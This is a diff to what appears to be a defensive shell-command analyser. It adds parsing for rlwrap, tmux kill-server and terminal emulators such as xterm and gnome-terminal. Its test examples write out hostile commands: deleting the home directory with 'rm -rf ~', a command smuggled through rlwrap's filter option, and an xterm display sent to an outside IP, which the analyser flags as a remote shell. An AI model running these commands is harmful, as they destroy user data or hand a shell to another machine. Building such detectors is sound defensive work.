@@ -3,6 +3,7 @@
  * resolution): privilege tools, schedulers and limiters, namespaces, terminals, tracers, and the
  * small launchers that hand out a shell. Researched from their man pages.
  */
+import type { Field } from '../expand.js';
 import { definePrograms, type Call, type ProgramSpec } from '../model.js';
 
 /** A wrapper whose operands, after its own options, are the command it runs. */
@@ -116,10 +117,25 @@ export default definePrograms([
   wrapper(['ionice'], 'run a command at another I/O priority', { '-c|--class|-n|--classdata|-p|--pid|-P|--pgid|-u|--uid': 'value', '-t': 'flag' }, 'ionice -c 3'),
   wrapper(['chrt'], 'run a command with a real-time policy', { '-p|--pid': 'flag', '-T|-P|-D': 'value' }, 'chrt 10', { operands: ['value', 'argv'] }),
   wrapper(['taskset'], 'run a command on some processors', { '-c|--cpu-list|-a|--all-tasks': 'flag', '-p|--pid': { mode: 'pid' } }, 'taskset 1', { operands: ['value', 'argv'] }),
-  wrapper(['nohup', 'setsid', 'unbuffer', 'dbus-run-session', 'xvfb-run', 'winpty', 'chronic', 'catchsegv', 'linux32', 'linux64', 'i386', 'x86_64', 'proxychains', 'proxychains4', 'torify', 'torsocks', 'tsocks', 'rlwrap', 'ssh-agent'], 'run a command detached, unbuffered, in another session or through a proxy', {
+  wrapper(['nohup', 'setsid', 'unbuffer', 'dbus-run-session', 'xvfb-run', 'winpty', 'chronic', 'catchsegv', 'linux32', 'linux64', 'i386', 'x86_64', 'proxychains', 'proxychains4', 'torify', 'torsocks', 'tsocks', 'ssh-agent'], 'run a command detached, unbuffered, in another session or through a proxy', {
     '-w|--wait|-c|--ctty|-f|--fork': 'flag',
     '-a|-n|-s|-S': 'value',
   }, 'nohup'),
+  wrapper(['rlwrap'], 'run a command with line editing', {
+    // optional values that may only be attached: `-a`, `-apassword:`, `-m`, `-p`, `-pRed`
+    '-a|--always-readline|-m|--multi-line|-p|--prompt-colour': { takes: 'value', attached: true },
+    '-b|--break-chars|-C|--command-name|-D|--history-no-dupes|-e|--extra-char-after-completion|-g|--forget-matching|-M|--multi-line-ext|-O|--only-cook|-P|--pre-given|-q|--quote-characters|-s|--histsize|-S|--substitute-prompt|-t|--set-term-name|-w|--wait-before-prompt': 'value',
+    '-f|--file': 'read',
+    '-H|--history-filename|-l|--logfile': 'write',
+    '-z|--filter': 'command',
+    '-A|--ansi-colour-aware|-c|--complete-filenames|-h|--help|-i|--case-insensitive|-n|--no-warnings|-N|--no-children|-o|--one-shot|-r|--remember|-R|--renice|-U|--mirror-arguments|-v|--version|-W|--polling|-X|--skip-setctty': 'flag',
+  }, 'rlwrap -a -c', {
+    examples: [
+      { cmd: 'rlwrap -a -c rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
+      { cmd: "rlwrap -a sh -c 'rm -rf ~'", runs: ['rm'], deletes: ['~'] },
+      { cmd: 'rlwrap -z "sh -c id" cat', runs: ['id'] },
+    ],
+  }),
   wrapper(['stdbuf'], 'run a command with other stream buffering', { '-i|--input|-o|--output|-e|--error': 'value' }, 'stdbuf -oL'),
   wrapper(['caffeinate'], 'run a command keeping the machine awake', { '-t|-w': 'value' }, 'caffeinate'),
   wrapper(['time', 'gtime'], 'time a command', { '-f|--format': 'value', '-o|--output': 'write', '-a|--append|-p|--portability|-v|--verbose': 'flag' }, 'time -p'),
@@ -297,6 +313,11 @@ export default definePrograms([
       const words = call.operands.map((o) => o.text);
       const sub = words[0] ?? 'new-session';
       const creates = /^(new-session|new|new-window|neww|split-window|splitw|respawn-pane|respawnp|respawn-window|respawnw|run-shell|run|if-shell|if|send-keys|send|pipe-pane|pipep|display-popup|popup|source-file|source)$/.test(sub);
+      if (/^(kill-server|kill-session)$/.test(sub) && (sub === 'kill-server' || call.operands.some((o) => o.text === '-a'))) {
+        // every session of the server (or all but one): the human's terminals too
+        call.ctx.signal('name:tmux: server');
+        return call.ctx.risk('process-control');
+      }
       if (!creates && words.length > 0) return;
       if (/^(send-keys|send)$/.test(sub)) return call.ctx.unknown('types keys into a terminal that runs them');
       if (/^(source-file|source)$/.test(sub)) return call.ctx.unknown('runs tmux commands from a file');
@@ -310,6 +331,54 @@ export default definePrograms([
     examples: [
       { cmd: "tmux new-session -d 'rm -rf /tmp/x'", runs: ['rm'] },
       { cmd: 'tmux ls', only: true },
+      { cmd: 'tmux kill-server', risks: ['process-control'] },
+      { cmd: 'tmux kill-session -t build', only: true },
+    ],
+  },
+  {
+    names: ['xterm', 'uxterm', 'urxvt', 'rxvt', 'rxvt-unicode', 'st', 'konsole', 'gnome-terminal', 'xfce4-terminal', 'mate-terminal', 'lxterminal', 'terminator', 'tilix', 'alacritty', 'kitty', 'foot', 'wezterm', 'qterminal', 'sakura', 'terminology', 'xdg-terminal-exec', 'x-terminal-emulator'],
+    summary: 'terminal emulators: a window with a shell, or with the command after `-e`, `-x`, `--`',
+    rewrite: (args: Field[]) => [{ ...args[0]!, text: '--' }, ...args],
+    operands: ['value...'],
+    custom(call) {
+      const { ctx } = call;
+      const args = call.operands;
+      for (let i = 0; i < args.length; i++) {
+        const a = args[i]!;
+        if (!a.known) {
+          ctx.unknown(`\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs`);
+          continue;
+        }
+        // `-display HOST:N`: the terminal (a shell) opens on another machine's screen.
+        if (/^--?(display|d)$/.test(a.text) || a.text.startsWith('--display=')) {
+          const display = a.text.includes('=') ? a.text.slice(a.text.indexOf('=') + 1) : args[++i]?.text ?? '';
+          const host = display.replace(/:[\d.]+$/, '');
+          if (host !== '' && !/^(unix|localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host)) {
+            ctx.host(host);
+            ctx.sends();
+            ctx.unknown(`\`${call.program}\` shows a shell on the screen of \`${host}\` (a remote shell)`);
+          }
+          continue;
+        }
+        const rest = args.slice(i + 1);
+        if (/^(-e|--command|-x|--execute|--)$/.test(a.text) || (a.text === 'start' && call.program === 'wezterm')) {
+          if (rest.length === 0) return;
+          // `-e 'cmd args'` (one word with spaces: gnome-terminal, terminator) or `-e cmd args` (xterm)
+          if (rest.length === 1 && /\s/.test(rest[0]!.text)) ctx.runScript(rest[0]!.text, call.program);
+          else ctx.run(rest[0]!.text === '--' ? rest.slice(1) : rest, call.program);
+          return;
+        }
+        if (a.text.startsWith('-')) continue;
+        // kitty, foot, alacritty: a bare program name starts the command; other words are option values
+        if (['kitty', 'foot'].includes(call.program) && !args[i - 1]?.text.startsWith('-')) return ctx.run(args.slice(i), call.program);
+      }
+    },
+    examples: [
+      { cmd: 'xterm -e rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
+      { cmd: "gnome-terminal -- bash -c 'rm -rf /tmp/x'", runs: ['rm'] },
+      { cmd: "xfce4-terminal -e 'rm -rf /tmp/x'", runs: ['rm'] },
+      { cmd: 'xterm -display 203.0.113.7:1', risks: ['exfiltration'], unknown: 'remote shell' },
+      { cmd: 'xterm -fa Monospace -fs 12', only: true },
     ],
   },
   {
